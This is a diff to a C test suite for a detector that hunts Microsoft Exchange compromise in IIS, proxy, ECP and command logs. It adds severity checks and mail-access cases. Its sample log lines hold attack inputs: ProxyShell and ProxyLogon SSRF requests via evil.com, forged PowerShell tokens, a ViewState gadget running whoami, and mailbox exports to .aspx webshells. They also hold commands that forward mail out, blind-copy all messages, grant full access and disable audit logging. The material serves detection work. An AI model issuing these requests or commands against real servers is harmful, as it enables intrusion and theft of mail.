@@ -26,106 +26,107 @@ static const struct {
 	const char *kind; /* NULL: nothing above informational */
 	int cve;
 	enum hunt_level level;
+	enum severity sev; /* SEV_INFO: not checked */
 } cases[] = {
     {"ssrf to mapi", F_HP,
      HP "2021-03-03T00:00:00Z,1.2.3.4,python,ServerInfo~a]@EX:444/mapi/emsmdb/"
         "?#,200,/ecp/y.js,\n",
-     "ssrf-anchor-mailbox", HC_26855, HL_EXPLOITED},
+     "ssrf-anchor-mailbox", HC_26855, HL_EXPLOITED, 0},
     {"ssrf lower case", F_HP,
      HP "2021-03-03T00:00:00Z,1.2.3.4,python,serverinfo~a]@EX:444/ecp/"
         "proxyLogon.ecp?#,241,/ecp/y.js,\n",
-     "ssrf-anchor-mailbox", HC_26855, HL_EXPLOITED},
+     "ssrf-anchor-mailbox", HC_26855, HL_EXPLOITED, 0},
     {"ssrf autodiscover only", F_HP,
      HP "2021-03-03T00:00:00Z,1.2.3.4,python,ServerInfo~a]@EX:444/autodiscover/"
         "autodiscover.xml?#,500,/ecp/y.js,\n",
-     "ssrf-attempt", HC_26855, HL_ATTEMPTED},
+     "ssrf-attempt", HC_26855, HL_ATTEMPTED, 0},
     {"ssrf localhost", F_HP,
      HP "2021-03-03T00:00:00Z,1.2.3.4,python,ServerInfo~localhost/ecp/x?#,500,/"
         "ecp/y.js,\n",
-     "ssrf-attempt", HC_26855, HL_ATTEMPTED},
+     "ssrf-attempt", HC_26855, HL_ATTEMPTED, 0},
     {"backend cookie", F_HP,
      HP "2021-03-03T00:00:00Z,1.2.3.4,python,,500,/owa/auth/"
         "x.js,Server~EX.corp/ecp/default.flt?~3\n",
-     "ssrf-backend-cookie", HC_26855, HL_EXPLOITED},
+     "ssrf-backend-cookie", HC_26855, HL_EXPLOITED, 0},
     {"vdir reset 200", F_HP,
      HP "2021-03-03T00:00:00Z,1.2.3.4,python,ServerInfo~a]@EX:444/ecp/DDI/"
         "DDIService.svc/SetObject?schema=ResetOABVirtualDirectory#,200,/ecp/"
         "y.js,\n",
-     "vdir-reset", HC_27065, HL_EXPLOITED},
+     "vdir-reset", HC_27065, HL_EXPLOITED, 0},
     {"normal anchor", F_HP,
      HP "2021-03-03T00:00:00Z,10.1.2.3,Outlook,\"Sid~S-1-5-21-1\",200,/owa/,\n",
-     NULL, 0, 0},
+     NULL, 0, 0, 0},
     {"proxyshell success", F_IIS,
      IIS "2021-08-20 11:00:05 POST /autodiscover/autodiscover.json "
          "@evil.com/powershell/?X-Rps-CAT=x&Email=autodiscover/"
          "autodiscover.json%3F@evil.com - 1.2.3.4 python 200\n",
-     "proxyshell-ssrf", HC_34473, HL_EXPLOITED},
+     "proxyshell-ssrf", HC_34473, HL_EXPLOITED, 0},
     {"proxyshell 401", F_IIS,
      IIS "2021-08-20 11:00:05 POST /autodiscover/autodiscover.json "
          "@evil.com/mapi/nspi/?&Email=autodiscover/"
          "autodiscover.json%3F@evil.com - 1.2.3.4 python 401\n",
-     "proxyshell-attempt", HC_34473, HL_ATTEMPTED},
+     "proxyshell-attempt", HC_34473, HL_ATTEMPTED, 0},
     {"proxyshell %40", F_IIS,
      IIS "2021-08-20 11:00:05 GET /autodiscover/autodiscover.json "
          "%40evil.com/mapi/nspi/?&Email=autodiscover/"
          "autodiscover.json%3F%40evil.com - 1.2.3.4 python 200\n",
-     "proxyshell-ssrf", HC_34473, HL_EXPLOITED},
+     "proxyshell-ssrf", HC_34473, HL_EXPLOITED, 0},
     {"scanner probe", F_IIS,
      IIS "2021-08-20 11:00:05 GET /autodiscover/autodiscover.json "
          "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com - "
          "1.2.3.4 nmap 302\n",
-     "proxyshell-scan", HC_34473, HL_ATTEMPTED},
+     "proxyshell-scan", HC_34473, HL_ATTEMPTED, 0},
     {"proxynotshell", F_IIS,
      IIS "2022-10-01 09:10:11 POST /autodiscover/autodiscover.json "
          "@evil.com/powershell/?&Email=autodiscover/"
          "autodiscover.json%3F@evil.com&Protocol=Powershell CORP\\alice "
          "1.2.3.4 python 200\n",
-     "proxynotshell-powershell", HC_41082, HL_EXPLOITED},
+     "proxynotshell-powershell", HC_41082, HL_EXPLOITED, 0},
     {"owassrf", F_IIS,
      IIS "2022-12-05 02:03:04 POST /owa/alice@corp.example/powershell - "
          "CORP\\alice 1.2.3.4 python 200\n",
-     "owassrf-powershell", HC_41082, HL_EXPLOITED},
+     "owassrf-powershell", HC_41082, HL_EXPLOITED, 0},
     {"owassrf from winrm", F_IIS,
      IIS "2022-12-05 02:03:04 POST /owa/alice@corp.example/powershell - "
          "CORP\\alice 10.1.2.3 Microsoft+WinRM+Client 200\n",
-     NULL, 0, 0},
+     NULL, 0, 0, 0},
     {"proxytoken", F_IIS,
      IIS "2021-08-30 12:00:00 POST "
          "/ecp/x@evil.com/RulesEditor/InboxRules.svc/NewObject - - 1.2.3.4 "
          "python 200\n",
-     "proxytoken", HC_33766, HL_EXPLOITED},
+     "proxytoken", HC_33766, HL_EXPLOITED, 0},
     {"ordinary autodiscover", F_IIS,
      IIS "2021-08-30 12:00:00 POST /autodiscover/autodiscover.json "
          "Email=alice%40corp.example&Protocol=ActiveSync CORP\\alice 10.1.2.3 "
          "Outlook 200\n",
-     NULL, 0, 0},
+     NULL, 0, 0, 0},
     {"ecp vdir script", F_ECP,
      ECP "2021-03-03T06:49:53.772Z,EX,ECP.Request,\"S:CMD=Set-"
          "OabVirtualDirectory.ExternalUrl='http://f/<script "
          "language=\"\"JScript\"\" runat=\"\"server\"\">x</script>'\"\n",
-     "vdir-url-script", HC_27065, HL_EXPLOITED},
+     "vdir-url-script", HC_27065, HL_EXPLOITED, 0},
     {"ecp vdir normal url", F_ECP,
      ECP "2021-03-03T06:49:53.772Z,EX,ECP.Request,\"S:CMD=Set-"
          "OabVirtualDirectory.ExternalUrl='https://mail.corp.example/OAB'\"\n",
-     NULL, 0, 0},
+     NULL, 0, 0, 0},
     {"oab outside", F_OAB,
      "2021-03-03T08:11:02Z Download failed and temporary file "
      "'C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx' needs to be removed\n",
-     "oab-write-outside", HC_26858, HL_EXPLOITED},
+     "oab-write-outside", HC_26858, HL_EXPLOITED, 0},
     {"oab inside", F_OAB,
      "2021-03-03T08:11:02Z Download failed and temporary file 'C:\\Program "
      "Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\x' "
      "needs to be removed\n",
-     NULL, 0, 0},
+     NULL, 0, 0, 0},
     {"export to aspx", F_CMD,
      "2021-08-20T11:00:12Z New-MailboxExportRequest -Mailbox a -FilePath "
      "\"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\a.aspx\"\n",
-     "mailbox-export-to-aspx", HC_31207, HL_EXPLOITED},
+     "mailbox-export-to-aspx", HC_31207, HL_EXPLOITED, 0},
     {"proxyshell in the autodiscover proxy log", F_HP,
      HPA "2021-08-20T11:00:01.000Z,POST,/autodiscover/autodiscover.json,"
          "?@evil.com/mapi/nspi/?&Email=autodiscover/"
          "autodiscover.json%3F@evil.com,,203.0.113.9,python-requests,200\n",
-     "proxyshell-ssrf", HC_34473, HL_EXPLOITED},
+     "proxyshell-ssrf", HC_34473, HL_EXPLOITED, 0},
     {"proxyshell powershell in the proxy log", F_HP,
      HPA "2021-08-20T11:00:05.000Z,POST,/autodiscover/autodiscover.json,"
          "?@evil.com/powershell/"
@@ -133,92 +134,176 @@ static const struct {
          "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhBZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZ"
          "Q==&Email=autodiscover/"
          "autodiscover.json%3F@evil.com,,203.0.113.9,python-requests,200\n",
-     "proxyshell-powershell", HC_34523, HL_EXPLOITED},
+     "proxyshell-powershell", HC_34523, HL_EXPLOITED, 0},
     {"proxyshell first step, autodiscover.xml", F_IIS,
      IIS "2021-08-20 11:00:00 POST /autodiscover/autodiscover.json "
          "@evil.com/autodiscover/autodiscover.xml?&Email=autodiscover/"
          "autodiscover.json%3F@evil.com&CorrelationID=<empty>;&cafeReqId=1; - "
          "203.0.113.9 python-requests/2.26.0 200\n",
-     "proxyshell-ssrf", HC_34473, HL_EXPLOITED},
+     "proxyshell-ssrf", HC_34473, HL_EXPLOITED, 0},
     {"proxyshell emsmdb with a forged token", F_IIS,
      IIS "2021-08-20 11:00:02 POST /autodiscover/autodiscover.json "
          "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/"
          "autodiscover.json%3F@evil.com CORP\\Administrator "
          "203.0.113.9 python-requests/2.26.0 200\n",
-     "proxyshell-powershell", HC_34523, HL_EXPLOITED},
+     "proxyshell-powershell", HC_34523, HL_EXPLOITED, 0},
     {"proxyshell back end powershell", F_IIS,
      IIS "2021-08-20 11:00:03 POST /powershell "
          "X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/"
          "autodiscover.json%3F@evil.com CORP\\Administrator "
          "10.0.0.5 python-requests/2.26.0 200\n",
-     "proxyshell-powershell", HC_34523, HL_EXPLOITED},
+     "proxyshell-powershell", HC_34523, HL_EXPLOITED, 0},
     {"proxyshell 302 from a probe is only an attempt", F_IIS,
      IIS "2021-08-20 10:00:01 GET /autodiscover/autodiscover.json "
          "@fuzz.example/owa/?&Email=autodiscover/"
          "autodiscover.json%3F@fuzz.example - 198.51.100.3 curl 302\n",
-     "proxyshell-attempt", HC_34473, HL_ATTEMPTED},
+     "proxyshell-attempt", HC_34473, HL_ATTEMPTED, 0},
     {"export to ashx", F_CMD,
      "2021-08-20T11:00:12Z New-MailboxExportRequest -Mailbox a -FilePath "
      "'\\\\localhost\\c$\\Program Files\\Microsoft\\Exchange "
      "Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\x.ashx'\n",
-     "mailbox-export-to-aspx", HC_31207, HL_EXPLOITED},
+     "mailbox-export-to-aspx", HC_31207, HL_EXPLOITED, 0},
     {"export request removed", F_CMD,
      "2021-08-20T11:01:00Z Remove-MailboxExportRequest -Identity a\\x "
      "-Confirm:$false\n",
-     "export-request-removed", HC_NONE, HL_NOT_SEEN},
+     "export-request-removed", HC_NONE, HL_NOT_SEEN, 0},
     {"cert request to a web folder", F_CMD,
      "2021-08-20T11:02:00Z New-ExchangeCertificate -GenerateRequest "
      "-BinaryEncoded -RequestFile "
      "\"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\r.aspx\" "
      "-SubjectName \"c=US\"\n",
-     "cert-request-to-aspx", HC_31207, HL_EXPLOITED},
+     "cert-request-to-aspx", HC_31207, HL_EXPLOITED, 0},
     {"transport agent installed", F_CMD,
      "2021-09-01T10:00:00Z Install-TransportAgent -Name \"Filter\" "
      "-TransportAgentFactory X.Factory -AssemblyPath C:\\ProgramData\\f.dll\n",
-     "transport-agent", HC_NONE, HL_NOT_SEEN},
+     "transport-agent", HC_NONE, HL_NOT_SEEN, 0},
     {"proxylogon's ssrf posted to a static file", F_IIS,
      IIS "2021-03-03 06:49:51 POST /ecp/y.js &CorrelationID=<empty>;"
          "&cafeReqId=7f3c; - 104.248.49.97 ExchangeServicesClient/0.0.0.0 "
          "200\n",
-     "ssrf-static-post", HC_26855, HL_EXPLOITED},
+     "ssrf-static-post", HC_26855, HL_EXPLOITED, 0},
     {"ssrf posted to a static file, fields in another order", F_IIS,
      "#Fields: date time cs-uri-stem cs-uri-query cs-method cs-username "
      "c-ip cs(User-Agent) sc-status\n"
      "2021-03-03 06:49:51 /ecp/main.css - POST - 104.248.49.97 "
      "python-requests/2.25.1 200\n",
-     "ssrf-static-post", HC_26855, HL_EXPLOITED},
+     "ssrf-static-post", HC_26855, HL_EXPLOITED, 0},
     {"ssrf to a theme resource, refused", F_IIS,
      IIS "2021-03-10 02:00:01 POST /owa/auth/Current/themes/resources/"
          "logon.css - - 198.51.100.3 python-requests/2.25.1 500\n",
-     "ssrf-static-attempt", HC_26855, HL_ATTEMPTED},
+     "ssrf-static-attempt", HC_26855, HL_ATTEMPTED, 0},
     {"a browser fetching ECP's script", F_IIS,
      IIS "2021-03-03 06:49:51 GET /ecp/15.1.2176/scripts/common.js - "
          "CORP\\alice 10.1.2.3 Mozilla/5.0 200\n",
-     NULL, 0, 0},
+     NULL, 0, 0, 0},
     {"ECP's own web service posted to", F_IIS,
      IIS "2021-03-03 06:49:51 POST /ecp/DDI/DDIService.svc/GetList "
          "msExchEcpCanary=x CORP\\alice 10.1.2.3 Mozilla/5.0 200\n",
-     NULL, 0, 0},
+     NULL, 0, 0, 0},
     {"forged viewstate in the query (CVE-2020-0688)", F_IIS,
      IIS "2020-03-01 03:04:05 GET /ecp/default.aspx "
          "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyAAEAAAAMAlN5c3RlbS5"
          "EZWxlZ2F0ZVNlcmlhbGl6YXRpb25Ib2xkZXIgVHlwZUNvbmZ1c2VEZWxlZ2F0ZSBTeX"
          "N0ZW0uRGlhZ25vc3RpY3MuUHJvY2VzcyBTdGFydCBjbWQgL2Mgd2hvYW1p "
          "CORP\\alice 198.51.100.7 python-requests 500\n",
-     "viewstate-exploit", HC_NONE, HL_ATTEMPTED},
+     "viewstate-exploit", HC_NONE, HL_ATTEMPTED, 0},
     {"a short viewstate in a query carries no gadget", F_IIS,
      IIS "2020-03-01 03:04:06 GET /app/list.aspx "
          "page=2&__VIEWSTATE=%2FwEPDwUKLTEyMzQ1Njc4OWRk CORP\\bob 10.0.0.9 "
          "Mozilla/5.0 200\n",
-     NULL, 0, 0},
+     NULL, 0, 0, 0},
     {"export to pst", F_CMD,
      "2021-08-20T11:00:12Z New-MailboxExportRequest -Mailbox a -FilePath "
      "\"\\\\fs\\exports\\a.pst\"\n",
-     NULL, 0, 0},
+     NULL, 0, 0, 0},
     {"export to a PST staged in ProgramData", F_CMD,
      "2021-08-20T11:00:12Z New-MailboxExportRequest -Mailbox ceo -FilePath "
      "\"\\\\localhost\\c$\\ProgramData\\VMware\\c.pst\"\n",
-     "mailbox-export", HC_NONE, HL_NOT_SEEN},
+     "mailbox-export", HC_NONE, HL_NOT_SEEN, 0},
+    /* mail access: every mailbox read, mail sent on, the audit off */
+    {"impersonation granted", F_CMD,
+     "2021-03-04T02:00:00Z New-ManagementRoleAssignment -Name \"x\" -Role "
+     "\"ApplicationImpersonation\" -User \"svc-sync@corp.example\"\n",
+     "impersonation-role", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
+    {"a forwarding inbox rule that deletes what it sent", F_CMD,
+     "2021-03-04T02:01:00Z New-InboxRule -Mailbox ceo -Name \".\" "
+     "-ForwardTo \"drop@mailbox.example\" -DeleteMessage $true\n",
+     "inbox-rule-forward", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
+    {"a forwarding inbox rule", F_CMD,
+     "2021-03-04T02:01:00Z New-InboxRule -Mailbox bob -Name \"to home\" "
+     "-RedirectTo \"bob@home.example\"\n",
+     "inbox-rule-forward", HC_NONE, HL_NOT_SEEN, SEV_MEDIUM},
+    {"an inbox rule filing newsletters", F_CMD,
+     "2021-03-04T02:01:00Z New-InboxRule -Mailbox bob -Name news "
+     "-From news@vendor.example -MoveToFolder \"bob:\\News\" "
+     "-CopyToFolder \"bob:\\Archive\"\n",
+     NULL, 0, 0, 0},
+    {"mailbox forwarding set", F_CMD,
+     "2021-03-04T02:02:00Z Set-Mailbox -Identity cfo "
+     "-ForwardingSmtpAddress \"smtp:cfo@mailbox.example\" "
+     "-DeliverToMailboxAndForward $true\n",
+     "mailbox-forwarding", HC_NONE, HL_NOT_SEEN, SEV_MEDIUM},
+    {"mailbox forwarding taken away", F_CMD,
+     "2021-03-04T02:02:00Z Set-Mailbox -Identity cfo "
+     "-ForwardingSmtpAddress $null\n",
+     NULL, 0, 0, 0},
+    {"a mailbox database set", F_CMD,
+     "2021-03-04T02:02:00Z Set-MailboxDatabase -Identity DB01 "
+     "-ForwardingSmtpAddress x -IssueWarningQuota 9GB\n",
+     NULL, 0, 0, 0},
+    {"every message blind-copied out", F_CMD,
+     "2021-03-04T02:03:00Z New-TransportRule -Name \"Compliance\" "
+     "-BlindCopyTo \"archive@mailbox.example\" -Priority 0\n",
+     "transport-rule-copy", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
+    {"a disclaimer rule", F_CMD,
+     "2021-03-04T02:03:00Z New-TransportRule -Name \"Footer\" "
+     "-ApplyHtmlDisclaimerText \"<p>Confidential</p>\"\n",
+     NULL, 0, 0, 0},
+    {"full access for everyone", F_CMD,
+     "2021-03-04T02:04:00Z Add-MailboxPermission -Identity ceo "
+     "-User \"Everyone\" -AccessRights FullAccess -InheritanceType All\n",
+     "mailbox-full-access", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
+    {"full access for a shared mailbox's member", F_CMD,
+     "2021-03-04T02:04:00Z Add-MailboxPermission -Identity sales "
+     "-User alice -AccessRights FullAccess\n",
+     NULL, 0, 0, 0},
+    {"a compliance search", F_CMD,
+     "2021-03-04T02:06:00Z New-ComplianceSearch -Name hold1 "
+     "-ContentMatchQuery \"subject:'Project X'\"\n",
+     NULL, 0, 0, 0},
+    {"read permission for a delegate", F_CMD,
+     "2021-03-04T02:04:00Z Add-MailboxPermission -Identity ceo "
+     "-User pa -AccessRights ReadPermission\n",
+     NULL, 0, 0, 0},
+    {"receive-as on a database", F_CMD,
+     "2021-03-04T02:05:00Z Add-ADPermission -Identity \"DB01\" -User "
+     "\"CORP\\healthmailbox9\" -ExtendedRights Receive-As\n",
+     "mailbox-full-access", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
+    {"a search of every mailbox", F_CMD,
+     "2021-03-04T02:06:00Z New-MailboxSearch -Name s1 -SearchQuery "
+     "password -TargetMailbox \"Discovery Search Mailbox\"\n",
+     "mailbox-search", HC_NONE, HL_NOT_SEEN, SEV_MEDIUM},
+    {"the admin audit log switched off", F_CMD,
+     "2021-03-04T02:07:00Z Set-AdminAuditLogConfig -AdminAuditLogEnabled "
+     "$false\n",
+     "audit-off", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
+    {"the admin audit log switched on", F_CMD,
+     "2021-03-04T02:07:00Z Set-AdminAuditLogConfig -AdminAuditLogEnabled "
+     "$true\n",
+     NULL, 0, 0, 0},
+    {"an organization admin added", F_CMD,
+     "2021-03-04T02:08:00Z Add-RoleGroupMember \"Organization "
+     "Management\" -Member helpdesk2\n",
+     "org-admin-added", HC_NONE, HL_NOT_SEEN, SEV_HIGH},
+    {"a forwarding rule made through ECP (ProxyToken)", F_ECP,
+     ECP "2021-08-10T10:00:00.000Z,EXCH01,ECP.Request,\"S:CMD=New-InboxRule"
+         ".Mailbox='ceo'.ForwardTo='drop@mailbox.example';S:URL=/ecp/"
+         "RulesEditor/InboxRules.svc/NewObject\"\n",
+     "inbox-rule-forward", HC_NONE, HL_NOT_SEEN, SEV_MEDIUM},
+    {"inbox rules listed in ECP", F_ECP,
+     ECP "2021-08-10T10:00:00.000Z,EXCH01,ECP.Request,\"S:CMD=Get-InboxRule"
+         ";S:URL=/ecp/RulesEditor/InboxRules.svc\"\n",
+     NULL, 0, 0, 0},
 };
 
 /* Runs one detector over text as the log at path, into h (fresh). */
@@ -259,7 +344,8 @@ int main(void)
 		check_count++;
 		if (cases[i].kind ? !hit || hit->cve != cases[i].cve ||
 		                        hit->level != cases[i].level ||
-		                        hit->line != 2 - (cases[i].src >= F_OAB)
+		                        hit->line != 2 - (cases[i].src >= F_OAB) ||
+		                        (cases[i].sev && hit->sev != cases[i].sev)
 		                  : above != 0) {
 			fprintf(stderr, "%s: %zu findings, first %s\n",
 			        cases[i].name, h.nf, h.nf ? h.f[0].kind : "-");
